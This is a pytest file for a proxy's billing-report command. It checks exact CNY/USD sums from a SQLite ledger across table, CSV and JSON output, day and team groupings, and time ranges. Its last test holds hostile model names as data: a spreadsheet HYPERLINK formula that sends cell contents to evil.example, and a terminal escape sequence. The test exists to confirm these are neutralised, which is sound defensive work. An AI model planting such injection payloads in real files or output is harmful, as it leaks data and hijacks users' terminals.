"""``report``: exact sums from a real SQLite ledger, in every format, grouping and range.

The ledger is written by the real `SQLiteLedger` from records priced by the real engine with the
shipped book. Expected amounts are worked out by hand from the book's rates (per 1M tokens) in
the comments, and compared as exact decimal text.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import subprocess
import sys
from collections.abc import Mapping
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from proxy.ledger import commands
from proxy.ledger.store import SQLiteLedger
from proxy.pricing import PriceBook, price
from proxy.records import Outcome, UsageRecord, UsageSource
from proxy.usage import TokenUsage
from tests.conftest import ROOT, SHIPPED_BOOK

BEIJING = ZoneInfo("Asia/Shanghai")
KEY_HASH = "sha256:" + "ab" * 32


def at(text: str) -> datetime:
    return datetime.fromisoformat(text)


def record(
    book: PriceBook,
    request_id: str,
    team: str,
    model: str,
    started: str,
    *,
    hit: int = 0,
    miss: int = 0,
    out: int = 0,
    reasoning: int = 0,
    tools: Mapping[str, int] | None = None,
    source: UsageSource = "reported",
    outcome: Outcome = "complete",
) -> UsageRecord:
    """A final record priced as `proxy.metering.build_record` prices one (at its start)."""
    start = at(started)
    tokens = (
        TokenUsage(hit, miss, out, reasoning, tools or {})
        if source in ("reported", "estimated")
        else None
    )
    pricing = price(book, model, tokens, start) if tokens is not None else None
    priced = pricing is not None and pricing.priced
    return UsageRecord(
        request_id=request_id,
        team=team,
        key_id="k_abababab",
        endpoint="chat",
        stream=False,
        model_requested=model,
        model_served=model,
        started_at=start,
        first_byte_at=start,
        ended_at=start,
        cache_hit_tokens=tokens.cache_hit if tokens else None,
        cache_miss_tokens=tokens.cache_miss if tokens else None,
        output_tokens=tokens.output if tokens else None,
        reasoning_tokens=tokens.reasoning if tokens else None,
        prompt_tokens=tokens.prompt if tokens else None,
        tool_calls=dict(tokens.tool_calls) if tokens else {},
        upstream_status=200,
        upstream_trace_id=None,
        outcome=outcome,
        usage_source=source,
        priced=priced,
        unpriced_reason=None
        if priced
        else (pricing.reason if pricing else f"nothing billable: {outcome}"),
        billed_model=pricing.billed_model if pricing else None,
        price_version=pricing.version if pricing else None,
        schedule_version=pricing.schedule_version if pricing else None,
        tier=pricing.tier if pricing else None,
        priced_at=start if pricing else None,
        costs={c: cost.total for c, cost in pricing.costs.items()} if pricing else {},
        cache_savings={c: cost.cache_savings for c, cost in pricing.costs.items()}
        if pricing
        else {},
        price_book=book.digest,
        flags=pricing.flags if pricing else (),
    )


def in_flight(book: PriceBook, request_id: str, team: str, model: str, started: str) -> UsageRecord:
    start = at(started)
    return UsageRecord(
        request_id=request_id,
        team=team,
        key_id="k_abababab",
        endpoint="chat",
        stream=True,
        model_requested=model,
        model_served=None,
        started_at=start,
        first_byte_at=None,
        ended_at=start,
        cache_hit_tokens=None,
        cache_miss_tokens=None,
        output_tokens=None,
        reasoning_tokens=None,
        prompt_tokens=None,
        tool_calls={},
        upstream_status=None,
        upstream_trace_id=None,
        outcome="in_flight",
        usage_source="unknown",
        priced=False,
        unpriced_reason="in flight: the call had not ended",
        billed_model=None,
        price_version=None,
        schedule_version=None,
        tier=None,
        priced_at=None,
        costs={},
        cache_savings={},
        price_book=book.digest,
        flags=(),
    )


def sample_rows(book: PriceBook) -> tuple[list[UsageRecord], list[UsageRecord]]:
    """(pending, final) records. Rates (CNY | USD per 1M tokens, hit / miss / output):
    deepseek-flash off-peak 0.02/1/4 | 0.003/0.15/0.60; deepseek-v4-pro peak 0.3/9/27 |
    0.044/1.32/3.96; search 5 CNY | 0.75 USD per 1000 calls."""
    final = [
        # Sunday 23:59:59 Beijing, off-peak: 0.0002 + 0.002 + 0.002 = 0.0042 CNY;
        # 0.00003 + 0.0003 + 0.0003 = 0.00063 USD. Billing day 2026-11-01.
        record(
            book,
            "r1",
            "alpha",
            "deepseek-flash",
            "2026-11-01T15:59:59+00:00",
            hit=10_000,
            miss=2_000,
            out=500,
            reasoning=100,
        ),
        # One second later: Monday 00:00 Beijing, billing day 2026-11-02, off-peak:
        # 0.001 + 0.004 + 0.01 (2 searches) = 0.015 CNY; 0.00015 + 0.0006 + 0.0015 = 0.00225 USD.
        record(
            book,
            "r2",
            "alpha",
            "deepseek-flash",
            "2026-11-01T16:00:00+00:00",
            miss=1_000,
            out=1_000,
            tools={"search": 2},
        ),
        # Monday 10:00 Beijing, peak: 0.0003 + 0.009 + 0.0027 = 0.012 CNY;
        # 0.000044 + 0.00132 + 0.000396 = 0.00176 USD.
        record(
            book,
            "r3",
            "beta",
            "deepseek-v4-pro",
            "2026-11-02T02:00:00+00:00",
            hit=1_000,
            miss=1_000,
            out=100,
        ),
        # Monday 11:00 Beijing, peak, estimated: 0.0045 + 0.00054 = 0.00504 CNY;
        # 0.00066 + 0.0000792 = 0.0007392 USD.
        record(
            book,
            "r4",
            "beta",
            "deepseek-v4-pro",
            "2026-11-02T03:00:00+00:00",
            miss=500,
            out=20,
            source="estimated",
            outcome="upstream_cut",
        ),
        # A model the shipped book does not know: usage, but unpriced.
        record(book, "r5", "beta", "deepseek-next", "2026-11-02T05:00:00+00:00", miss=100, out=10),
        # DeepSeek never received it: nothing billable, not "unpriced".
        record(
            book,
            "r6",
            "beta",
            "deepseek-v4-pro",
            "2026-11-02T06:00:00+00:00",
            source="none",
            outcome="connect_error",
        ),
    ]
    pending = [in_flight(book, "r7", "alpha", "deepseek-flash", "2026-11-02T04:00:00+00:00")]
    return pending, final


def write_config(folder: Path, book_text: str) -> Path:
    """A config in `folder` naming its own price book and a ledger beside it."""
    (folder / "book.yaml").write_text(book_text, encoding="utf-8")
    config = folder / "proxy.yaml"
    config.write_text(
        "pricing: {book: [book.yaml]}\n"
        f"teams:\n  alpha:\n    keys: ['{KEY_HASH}']\n"
        f"  beta:\n    keys: ['sha256:{'cd' * 32}']\n"
        "ledger: {path: ledger.sqlite3, billing_timezone: Asia/Shanghai}\n",
        encoding="utf-8",
    )
    return config


@pytest.fixture
def config(tmp_path: Path, book: PriceBook) -> Path:
    """A config and a ledger holding `sample_rows`, priced with the shipped book."""
    path = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
    ledger = SQLiteLedger(tmp_path / "ledger.sqlite3", BEIJING)
    ledger.write(*sample_rows(book))
    ledger.close()
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """Run a command in-process through a parser holding only the ledger commands."""
    parser = argparse.ArgumentParser()
    commands.register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    code: int = args.handler(args)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def report_json(capsys: pytest.CaptureFixture[str], config: Path, *argv: str) -> dict[str, object]:
    code, out, err = run(capsys, "report", "--config", str(config), "--format", "json", *argv)
    assert code == 0, err
    result: dict[str, object] = json.loads(out)
    return result


def assert_total_is_sum(report: dict[str, object]) -> None:
    """The total equals the rows' sum exactly: ints for counts, Decimal for money."""
    rows = report["rows"]
    total = report["total"]
    assert isinstance(rows, list) and isinstance(total, dict)
    for name, value in total.items():
        if name == "cost":
            for currency, amount in value.items():
                assert Decimal(amount) == sum(Decimal(r["cost"][currency]) for r in rows)
        else:
            assert value == sum(r[name] for r in rows)


def test_report_json_by_team_and_model(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    report = report_json(capsys, config)
    assert report == {
        "since": None,
        "until": None,
        "by": ["team", "model"],
        "currencies": ["CNY", "USD"],
        "rows": [
            # r1, r2 and the in-flight r7 (a request, unpriced, no tokens)
            {
                "team": "alpha",
                "model": "deepseek-flash",
                "requests": 3,
                "cache_hit": 10_000,
                "cache_miss": 3_000,
                "output": 1_500,
                "reasoning": 100,
                "unpriced": 1,
                "estimated": 0,
                "cost": {"CNY": "0.0192", "USD": "0.00288"},
            },
            {
                "team": "beta",
                "model": "deepseek-next",
                "requests": 1,
                "cache_hit": 0,
                "cache_miss": 100,
                "output": 10,
                "reasoning": 0,
                "unpriced": 1,
                "estimated": 0,
                "cost": {"CNY": "0", "USD": "0"},
            },
            # r3, r4 (estimated) and r6 (usage none: neither tokens nor unpriced)
            {
                "team": "beta",
                "model": "deepseek-v4-pro",
                "requests": 3,
                "cache_hit": 1_000,
                "cache_miss": 1_500,
                "output": 120,
                "reasoning": 0,
                "unpriced": 0,
                "estimated": 1,
                "cost": {"CNY": "0.01704", "USD": "0.0024992"},
            },
        ],
        "total": {
            "requests": 7,
            "cache_hit": 11_000,
            "cache_miss": 4_600,
            "output": 1_630,
            "reasoning": 100,
            "unpriced": 2,
            "estimated": 1,
            "cost": {"CNY": "0.03624", "USD": "0.0053792"},
        },
    }
    assert_total_is_sum(report)


def test_report_table(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    code, out, _ = run(capsys, "report", "--config", str(config))
    assert code == 0
    assert out.splitlines() == [
        "Calls started from the first row until the last row (exclusive)",
        "team   model            requests  cache_hit  cache_miss  output  reasoning  unpriced"
        "  estimated      CNY        USD",
        "alpha  deepseek-flash          3      10000        3000    1500        100         1"
        "          0   0.0192    0.00288",
        "beta   deepseek-next           1          0         100      10          0         1"
        "          0        0          0",
        "beta   deepseek-v4-pro         3       1000        1500     120          0         0"
        "          1  0.01704  0.0024992",
        "TOTAL                          7      11000        4600    1630        100         2"
        "          1  0.03624  0.0053792",
    ]


def test_report_csv_total_is_the_exact_sum(
    capsys: pytest.CaptureFixture[str], config: Path
) -> None:
    code, out, _ = run(
        capsys, "report", "--config", str(config), "--format", "csv", "--by", "model"
    )
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        [
            "model",
            "requests",
            "cache_hit",
            "cache_miss",
            "output",
            "reasoning",
            "unpriced",
            "estimated",
            "CNY",
            "USD",
        ],
        ["deepseek-flash", "3", "10000", "3000", "1500", "100", "1", "0", "0.0192", "0.00288"],
        ["deepseek-next", "1", "0", "100", "10", "0", "1", "0", "0", "0"],
        ["deepseek-v4-pro", "3", "1000", "1500", "120", "0", "0", "1", "0.01704", "0.0024992"],
        ["TOTAL", "7", "11000", "4600", "1630", "100", "2", "1", "0.03624", "0.0053792"],
    ]
    body, total = rows[1:-1], rows[-1]
    for column in range(1, 8):
        assert int(total[column]) == sum(int(r[column]) for r in body)
    for column in (8, 9):
        assert Decimal(total[column]) == sum(Decimal(r[column]) for r in body)


def test_by_day_splits_at_beijing_midnight(
    capsys: pytest.CaptureFixture[str], config: Path
) -> None:
    """15:59:59Z and 16:00:00Z on 2026-11-01 are 23:59:59 and 00:00 in Beijing."""
    report = report_json(capsys, config, "--by", "day")
    assert report["rows"] == [
        {
            "day": "2026-11-01",
            "requests": 1,
            "cache_hit": 10_000,
            "cache_miss": 2_000,
            "output": 500,
            "reasoning": 100,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.0042", "USD": "0.00063"},
        },
        {
            "day": "2026-11-02",
            "requests": 6,
            "cache_hit": 1_000,
            "cache_miss": 2_600,
            "output": 1_130,
            "reasoning": 0,
            "unpriced": 2,
            "estimated": 1,
            "cost": {"CNY": "0.03204", "USD": "0.0047492"},
        },
    ]
    assert_total_is_sum(report)


def test_by_team_model_and_day_sorted_by_keys(
    capsys: pytest.CaptureFixture[str], config: Path
) -> None:
    report = report_json(capsys, config, "--by", "day,team,model")
    rows = report["rows"]
    assert isinstance(rows, list)
    assert [(r["day"], r["team"], r["model"], r["requests"]) for r in rows] == [
        ("2026-11-01", "alpha", "deepseek-flash", 1),
        ("2026-11-02", "alpha", "deepseek-flash", 2),
        ("2026-11-02", "beta", "deepseek-next", 1),
        ("2026-11-02", "beta", "deepseek-v4-pro", 3),
    ]
    assert_total_is_sum(report)


def test_since_date_is_beijing_midnight_and_until_is_exclusive(
    capsys: pytest.CaptureFixture[str], config: Path
) -> None:
    """--since 2026-11-02 is 2026-11-01T16:00Z: r1 is out, r2 in; r4 starts at --until: out."""
    report = report_json(
        capsys, config, "--since", "2026-11-02", "--until", "2026-11-02T03:00:00Z", "--by", "team"
    )
    assert report["since"] == "2026-11-01T16:00:00Z"
    assert report["until"] == "2026-11-02T03:00:00Z"
    assert report["rows"] == [
        {
            "team": "alpha",
            "requests": 1,
            "cache_hit": 0,
            "cache_miss": 1_000,
            "output": 1_000,
            "reasoning": 0,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.015", "USD": "0.00225"},
        },
        {
            "team": "beta",
            "requests": 1,
            "cache_hit": 1_000,
            "cache_miss": 1_000,
            "output": 100,
            "reasoning": 0,
            "unpriced": 0,
            "estimated": 0,
            "cost": {"CNY": "0.012", "USD": "0.00176"},
        },
    ]
    assert report["total"] == {
        "requests": 2,
        "cache_hit": 1_000,
        "cache_miss": 2_000,
        "output": 1_100,
        "reasoning": 0,
        "unpriced": 0,
        "estimated": 0,
        "cost": {"CNY": "0.027", "USD": "0.00401"},
    }


@pytest.mark.parametrize(
    ("bounds", "requests"),
    [
        (("--until", "2026-11-01T16:00:00Z"), 1),  # r1 only
        (("--since", "2026-11-01T16:00:00Z"), 6),  # everything but r1
        (("--since", "2026-11-02T00:00:00+08:00", "--until", "2026-11-02T00:00:01+08:00"), 1),
        (("--since", "2026-11-03"), 0),
    ],
)
def test_range_bounds(
    capsys: pytest.CaptureFixture[str], config: Path, bounds: tuple[str, ...], requests: int
) -> None:
    report = report_json(capsys, config, *bounds)
    total = report["total"]
    assert isinstance(total, dict)
    assert total["requests"] == requests


def test_one_currency(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    report = report_json(capsys, config, "--currency", "usd", "--by", "team")
    assert report["currencies"] == ["USD"]
    rows = report["rows"]
    assert isinstance(rows, list)
    assert [r["cost"] for r in rows] == [{"USD": "0.00288"}, {"USD": "0.0024992"}]
    assert report["total"] == {
        "requests": 7,
        "cache_hit": 11_000,
        "cache_miss": 4_600,
        "output": 1_630,
        "reasoning": 100,
        "unpriced": 2,
        "estimated": 1,
        "cost": {"USD": "0.0053792"},
    }


def test_unknown_currency_is_refused(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    code, out, err = run(capsys, "report", "--config", str(config), "--currency", "EUR")
    assert (code, out) == (2, "")
    assert err == "unknown currency 'EUR'; the ledger has CNY, USD\n"


def test_missing_ledger_exits_1_and_creates_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
    code, out, err = run(capsys, "report", "--config", str(config))
    assert (code, out) == (1, "")
    assert err == f"no ledger at {tmp_path / 'ledger.sqlite3'}\n"
    assert not (tmp_path / "ledger.sqlite3").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ("--by", "team,week"),
        ("--by", "team,team"),
        ("--by", ""),
        ("--since", "2026-11-01T00:00:00"),
        ("--until", "yesterday"),
    ],
)
def test_bad_arguments_exit_2(
    capsys: pytest.CaptureFixture[str], config: Path, argv: tuple[str, ...]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        run(capsys, "report", "--config", str(config), *argv)
    assert exit_info.value.code == 2


def test_empty_range_is_refused(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    code, _, err = run(
        capsys, "report", "--config", str(config), "--since", "2026-11-02", "--until", "2026-11-02"
    )
    assert code == 2
    assert err.startswith("--since (2026-11-02T00:00:00+08:00) must be before --until")


def test_report_subprocess(config: Path) -> None:
    """``python -m proxy report`` in a real interpreter, through `proxy.cli`'s registration."""

    def proxy(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "proxy", *argv],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
        )

    result = proxy("report", "--config", str(config), "--format", "json", "--by", "team")
    assert result.returncode == 0, result.stderr
    total = json.loads(result.stdout)["total"]
    assert total["cost"] == {"CNY": "0.03624", "USD": "0.0053792"}
    assert total["requests"] == 7


def test_hostile_model_names_stay_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, book: PriceBook
) -> None:
    """A client chooses the model name it sends: in CSV it must not become a spreadsheet
    formula, in the table it must not drive the terminal, in JSON it stays exactly itself."""
    path = write_config(tmp_path, SHIPPED_BOOK.read_text(encoding="utf-8"))
    ledger = SQLiteLedger(tmp_path / "ledger.sqlite3", BEIJING)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    escape = "deepseek-flash\x1b]0;owned\x07\x1b[2J"  # from a ledger older than the 400
    ledger.write(
        [],
        [
            record(book, "h1", "alpha", formula, "2026-11-02T02:00:00+00:00", miss=1),
            record(book, "h2", "alpha", escape, "2026-11-02T02:00:00+00:00", miss=1),
            record(book, "h3", "alpha", "-1+2", "2026-11-02T02:00:00+00:00", miss=1),
        ],
    )
    ledger.close()
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    models = {row[1] for row in rows[1:-1]}
    assert models == {"'" + formula, "'-1+2", escape}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row[:2])
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "table")
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "deepseek-flash\\x1b]0;owned\\x07\\x1b[2J" in out
    code, out, _ = run(capsys, "report", "--config", str(path), "--format", "json")
    assert {row["model"] for row in json.loads(out)["rows"]} == {formula, escape, "-1+2"}
    assert "\x1b" not in out  # JSON escapes control characters itself
